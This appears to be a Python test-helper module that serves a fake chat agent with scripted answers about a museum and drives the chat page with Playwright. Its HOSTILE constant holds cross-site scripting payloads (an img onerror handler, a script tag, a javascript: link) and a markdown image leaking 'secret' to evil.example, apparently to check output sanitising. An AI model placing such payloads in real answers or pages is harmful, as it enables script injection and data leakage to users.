"""The chat page with an agent that plays given turns slowly enough to be watched, and how a test talks to it."""

from __future__ import annotations

import io
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, contextmanager
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Locator, Page
    from visits import Site

BOX = "#kotae-question textarea"
ANSWER = ".kotae-answer:not(.kotae-is-draft)"
CHOICES = ("Lake Orrin boat hire › Rowing boats", "Fennick station lockers")
HOSTILE = (
    "It opens <img src=https://evil.example/a.png onerror=\"document.title='pwned'\"> at nine [1].\n\n"
    "![x](https://evil.example/?q=secret) [go](javascript:document.title='pwned') "
    "<script>document.title='pwned'</script>"
)
ROWS = """The café is on the second floor. [2]

| Exhibition | Where | Opening hours | Admission | Guided tours |
|---|---|---|---|---|
| Ships of the northern harbours | First floor | 9:00 to 18:00 | 12 euros | Saturdays at 11:00 |
| Lighthouses | Second floor | 9:00 to 20:00 | 8 euros | Sundays at 14:30 [1] |"""


def make_agent(folder: Path) -> Any:
    from fake_agent import FakeAgent, FakeContext, FakeDocument, Play, answer, passage, settings
    from PIL import Image

    from agent.errors import ModelMissing
    from agent.state import Source
    from ui import strings

    text, pdf = folder / "handbook.md", folder / "plan.pdf"
    text.write_text("The museum opens at nine.", "utf-8")
    pdf.write_bytes(b"%PDF-1.7")
    hours = passage(
        1, "The museum opens at nine. It closes at six.", title="Handbook", heading=("Visiting", "Hours"), url=str(text)
    )
    plan = passage(2, "The café is on the second floor.", title="Floor plan", url=str(pdf), page=2)
    sources = (Source(1, hours, "opens at nine"), Source(2, plan, "second floor"))
    good = answer("The museum **opens at nine** [1]. The café is on the second floor [2].", *sources)
    thanks = answer("You are welcome.", route="direct")
    asked = answer("Which one do you mean?", route="clarify", choices=CHOICES)
    plays = {
        "When does it open?": Play(good, good.text, 0.12),
        "Quick?": Play(good, good.text),
        "Endless?": Play(good, "word " * 3000, 0.05),
        "Thanks": Play(thanks, thanks.text),
        "What does it cost?": Play(answer("I could not find that.", *sources, refused=True, notices=("web_off",))),
        "What is the deposit?": Play(asked),
        CHOICES[1]: Play(good, good.text),
        "Exhibitions?": Play(answer(ROWS, *sources), ROWS),
        "Hostile?": Play(answer(HOSTILE, *sources), HOSTILE, 0.02),
        "No model?": Play(good, error=ModelMissing("x")),
        strings.load("en")("example.what"): Play(good, good.text),
    }
    agent = FakeAgent(settings(folder), plays)  # type: ignore[arg-type]
    agent.library.files = [FakeDocument("d1", str(text)), FakeDocument("d2", str(pdf))]
    agent.library.context_of = {"p1": FakeContext("x\nBefore the passage.\n\n", "\n\nAfter the passage.\nx")}
    picture = io.BytesIO()
    Image.new("RGB", (60, 80), "white").save(picture, "PNG")
    agent.library.picture = picture.getvalue()
    agent.put("old", "An old conversation", [("Quick?", good), ("Thanks", thanks)])
    return agent


@contextmanager
def played(folder: Path) -> Iterator[Site]:
    """The chat with that agent, served."""
    from visits import Running

    @asynccontextmanager
    async def opened() -> AsyncIterator[Any]:
        yield make_agent(folder)

    with Running(opened) as one:
        yield one


def go(page: Page, site: Site, path: str = "/chat/en/") -> None:
    page.goto(site.url + path)
    page.wait_for_selector("#kotae-threads :is(.kotae-threads, .kotae-none)", state="attached")


def ask(page: Page, question: str) -> None:
    page.fill(BOX, question)
    page.press(BOX, "Enter")


def answers(page: Page) -> Locator:
    return page.locator(ANSWER)


def ask_and_wait(page: Page, question: str, count: int = 1) -> None:
    ask(page, question)
    page.wait_for_function("([s, n]) => document.querySelectorAll(s).length === n", arg=[ANSWER, count])
    page.wait_for_selector("#kotae-send", state="visible")
